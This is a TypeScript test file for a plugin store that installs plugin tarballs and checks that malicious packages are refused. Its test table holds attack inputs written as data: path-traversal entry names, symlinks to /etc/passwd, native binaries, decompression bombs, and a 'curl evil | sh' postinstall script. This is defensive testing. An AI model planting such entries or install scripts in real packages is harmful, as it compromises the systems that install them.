import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { buffer } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { definePlugin, z } from '@guildhall/sdk';
import { describePlugin } from '@guildhall/sdk/host';
import { type Header, pack } from 'tar-stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createPluginStore, integrityOf, type PluginStore } from '../../src/plugins/index.ts';

const quiet = () => undefined;
const logger = { debug: quiet, info: quiet, warn: quiet, error: quiet };

const source = `
import { definePlugin, z } from '@guildhall/sdk';
export default definePlugin({
  id: 'parcel', name: 'Parcel', description: 'A plugin of a test.', category: 'fun', needs: {},
  config: { version: 1, schema: z.object({}) },
}).build();
`;
const parcel = definePlugin({
  id: 'parcel',
  name: 'Parcel',
  description: 'A plugin of a test.',
  category: 'fun',
  needs: {},
  config: { version: 1, schema: z.object({}) },
}).build();

type Entry = readonly [Partial<Header> & { name: string }, (string | Buffer)?];
const file = (name: string, content: string | Buffer): Entry => [{ name }, content];

function whole(version = '1.0.0'): Entry[] {
  const manifest = describePlugin(parcel, { package: '@acme/parcel', version });
  return [
    file('package/manifest.json', JSON.stringify(manifest)),
    file('package/index.js', source),
    file('package/package.json', JSON.stringify({ name: '@acme/parcel', version, type: 'module' })),
  ];
}

async function tarball(entries: readonly Entry[]): Promise<Buffer> {
  const archive = pack();
  const bytes = buffer(archive);
  for (const [header, content] of entries) archive.entry(header, content ?? '');
  archive.finalize();
  return gzipSync(await bytes);
}

const description = (extra: object) =>
  file(
    'package/package.json',
    JSON.stringify({ name: '@acme/parcel', version: '1.0.0', type: 'module', ...extra }),
  );

/** Everything that a publisher may try, and the code that stops it. */
const hostile: [string, string, Entry[]][] = [
  ['an absolute path', 'PATH_REFUSED', [file('/etc/passwd', 'x')]],
  ['a path out of the folder', 'PATH_REFUSED', [file('package/../../evil.js', 'x')]],
  ['a path that begins with ..', 'PATH_REFUSED', [file('../evil.js', 'x')]],
  ['a path with a backslash', 'PATH_REFUSED', [file('package\\..\\evil.js', 'x')]],
  ['a drive letter', 'PATH_REFUSED', [file('C:/evil.js', 'x')]],
  ['a stream of another file', 'PATH_REFUSED', [file('package/a.js:evil', 'x')]],
  ['an empty segment', 'PATH_REFUSED', [file('package//evil.js', 'x')]],
  ['a dot segment', 'PATH_REFUSED', [file('package/./index.js', 'x')]],
  ['a control character', 'PATH_REFUSED', [file('package/a\nb.js', 'x')]],
  ['a file outside the folder of the package', 'PATH_REFUSED', [file('evil.js', 'x')]],
  ['a trailing dot', 'PATH_REFUSED', [file('package/index.js.', 'x')]],
  [
    'a long path that comes in an extended header',
    'PATH_REFUSED',
    [file(`package/${'../'.repeat(60)}evil`, 'x')],
  ],
  ['a symbolic link', 'LINK_REFUSED', [[{ name: 'package/a', type: 'symlink', linkname: '/etc/passwd' }]]],
  ['a hard link', 'LINK_REFUSED', [[{ name: 'package/a', type: 'link', linkname: 'package/index.js' }]]],
  ['a character device', 'LINK_REFUSED', [[{ name: 'package/a', type: 'character-device' }]]],
  ['a block device', 'LINK_REFUSED', [[{ name: 'package/a', type: 'block-device' }]]],
  ['a pipe', 'LINK_REFUSED', [[{ name: 'package/a', type: 'fifo' }]]],
  ['one name twice', 'PATH_REFUSED', [file('package/index.js', 'evil()')]],
  ['one name twice in another case', 'PATH_REFUSED', [file('package/INDEX.js', 'evil()')]],
  ['one name twice in another folder', 'PATH_REFUSED', [file('other/index.js', 'evil()')]],
  ['a file that is a folder too', 'PATH_REFUSED', [file('package/index.js/a', 'x')]],
  ['an addon', 'NATIVE_REFUSED', [file('package/build/addon.node', 'x')]],
  ['a library', 'NATIVE_REFUSED', [file('package/libevil.so.1', 'x')]],
  [
    'a program under another name',
    'NATIVE_REFUSED',
    [file('package/a.txt', Buffer.from('7f454c4602', 'hex'))],
  ],
  ['instructions to compile', 'NATIVE_REFUSED', [file('package/binding.gyp', '{}')]],
  ['a bomb', 'TOO_LARGE', [file('package/zeros', Buffer.alloc(11 * 1024 * 1024))]],
  ['a larger bomb', 'TOO_LARGE', [file('package/zeros', Buffer.alloc(64 * 1024 * 1024))]],
  ['too many bytes', 'TOO_LARGE', [file('package/noise', randomBytes(3 * 1024 * 1024))]],
  [
    'too many files',
    'TOO_LARGE',
    Array.from({ length: 2_001 }, (_, index) => file(`package/f/${index}`, '')),
  ],
];

describe('where plugins come from', () => {
  let folder: string;
  let store: PluginStore;
  beforeEach(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'guildhall-sources-'));
    store = await createPluginStore({ dataDir: folder, logger });
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));

  it('a tarball is taken in, from its bytes or a file, and runs', async () => {
    const bytes = await tarball(whole());
    const added = await store.addTarball(bytes, { integrity: integrityOf(bytes) });
    expect(added).toMatchObject({ id: 'parcel', version: '1.0.0', firstParty: false });
    expect((await added.load()).declaration.id).toBe('parcel');
    const place = path.join(folder, 'parcel.tgz');
    await writeFile(place, bytes);
    expect((await store.addTarball(place)).hash).toBe(added.hash);
    expect(await readdir(path.join(folder, 'plugins'))).toEqual(['.changed', 'parcel']);
  });

  it('of several versions the newest is offered, and each can be had', async () => {
    await store.addTarball(await tarball(whole('1.10.0')));
    await store.addTarball(await tarball(whole('1.9.0')));
    const { catalogue } = store;
    expect(catalogue.newest('parcel')?.version).toBe('1.10.0');
    expect(catalogue.versions('parcel').map(({ version }) => version)).toEqual(['1.10.0', '1.9.0']);
  });

  it.each(hostile)('%s is refused (%s), and nothing of it is left', async (_, code, entries) => {
    const order = [...whole(), ...entries];
    await expect(store.addTarball(await tarball(order))).rejects.toMatchObject({ code });
    expect(store.catalogue.list()).toEqual([]);
    expect(await readdir(path.join(folder, 'plugins'))).toEqual([]);
  });

  it.each([
    ['an install script', { scripts: { postinstall: 'curl evil | sh' } }],
    ['a dependency', { dependencies: { evil: '1' } }],
    ['an optional dependency', { optionalDependencies: { evil: '1' } }],
    ['bundled dependencies', { bundleDependencies: ['evil'] }],
  ])('%s in package.json is refused', async (_, extra) => {
    const entries = [...whole().slice(0, 2), description(extra)];
    await expect(store.addTarball(await tarball(entries))).rejects.toMatchObject({ code: 'SCRIPTS_REFUSED' });
  });

  it('what is no tarball, or half of one, is refused', async () => {
    const bytes = await tarball(whole());
    for (const broken of [Buffer.from('hello'), bytes.subarray(0, bytes.length / 2), gzipSync('hello')]) {
      await expect(store.addTarball(broken)).rejects.toMatchObject({ name: 'PluginStoreError' });
    }
    const flipped = Buffer.from(bytes);
    flipped[40] = (flipped[40] ?? 0) ^ 1;
    const integrity = integrityOf(bytes);
    await expect(store.addTarball(flipped, { integrity })).rejects.toMatchObject({
      code: 'INTEGRITY_MISMATCH',
    });
  });
});

describe('a registry', () => {
  let folder: string;
  let store: PluginStore;
  let server: Server;
  let registryUrl: string;
  let published: Map<string, { bytes: Buffer; integrity?: string; tarball?: string }>;
  beforeEach(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'guildhall-registry-'));
    store = await createPluginStore({ dataDir: folder, logger });
    published = new Map();
    for (const version of ['1.0.0', '1.2.0', '2.0.0']) {
      const bytes = await tarball(whole(version));
      published.set(version, { bytes, integrity: integrityOf(bytes) });
    }
    server = createServer((request, response) => {
      const url = request.url ?? '';
      const version = /parcel-(.+)\.tgz$/.exec(url)?.[1];
      const held = version === undefined ? undefined : published.get(version);
      if (held) return response.end(held.bytes);
      if (url.toLowerCase() !== '/@acme%2fparcel') return response.writeHead(404).end();
      const versions = Object.fromEntries(
        [...published].map(([of, { integrity, tarball: at }]) => [
          of,
          { dist: { integrity, tarball: at ?? `${registryUrl}/@acme/parcel/-/parcel-${of}.tgz` } },
        ]),
      );
      return response.end(
        JSON.stringify({ name: '@acme/parcel', 'dist-tags': { latest: '2.0.0', calm: '1.0.0' }, versions }),
      );
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    registryUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterEach(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
    await rm(folder, { recursive: true, force: true });
  });
  const get = (version?: string) =>
    store.addFromRegistry({
      registryUrl,
      name: '@acme/parcel',
      ...(version === undefined ? {} : { version }),
    });

  it.each([
    [undefined, '2.0.0'],
    ['1.0.0', '1.0.0'],
    ['^1.0.0', '1.2.0'],
    ['calm', '1.0.0'],
  ])('%s finds %s', async (wanted, version) => {
    expect(await get(wanted)).toMatchObject({ id: 'parcel', version });
  });

  it('what it does not have, and does not answer, is said so', async () => {
    await expect(get('^9.0.0')).rejects.toMatchObject({
      code: 'VERSION_NOT_FOUND',
      remedy: expect.stringContaining('1.2.0'),
    });
    const missing = store.addFromRegistry({ registryUrl, name: 'missing' });
    await expect(missing).rejects.toMatchObject({ code: 'VERSION_NOT_FOUND' });
    const gone = store.addFromRegistry({ registryUrl: 'http://127.0.0.1:1', name: 'x' });
    await expect(gone).rejects.toMatchObject({ code: 'REGISTRY_UNREACHABLE' });
    const odd = store.addFromRegistry({ registryUrl, name: '../../etc/passwd' });
    await expect(odd).rejects.toMatchObject({ code: 'REGISTRY_INVALID' });
  });

  it('a tarball that is not the listed one is refused', async () => {
    const { bytes } = published.get('1.0.0') ?? { bytes: Buffer.alloc(0) };
    published.set('2.0.0', { bytes, integrity: integrityOf(Buffer.from('another')) });
    await expect(get()).rejects.toMatchObject({ code: 'INTEGRITY_MISMATCH' });
    published.set('2.0.0', { bytes, integrity: integrityOf(bytes) });
    await expect(get(), 'another version in it').rejects.toMatchObject({ code: 'REGISTRY_INVALID' });
    published.set('2.0.0', { bytes });
    await expect(get(), 'without a sha512').rejects.toMatchObject({ code: 'REGISTRY_INVALID' });
    published.set('2.0.0', { bytes, integrity: integrityOf(bytes), tarball: 'http://127.0.0.2/parcel.tgz' });
    await expect(get(), 'elsewhere').rejects.toMatchObject({ code: 'REGISTRY_INVALID' });
    expect(store.catalogue.list()).toEqual([]);
  });
});
